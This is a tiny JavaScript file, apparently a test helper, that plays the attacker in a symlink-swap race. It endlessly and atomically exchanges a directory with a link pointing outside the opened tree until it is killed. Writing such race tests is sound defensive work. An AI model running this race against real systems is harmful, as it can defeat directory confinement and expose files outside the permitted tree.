// The attacker: swaps a directory with a link to the outside, as fast as it can, until it is killed.
import { constants, openSync } from "node:fs";
import { exchangeAt } from "@retake/linux";

const tree = openSync(process.argv[2] ?? "", constants.O_DIRECTORY);
for (;;) exchangeAt(tree, "folder", tree, "link");
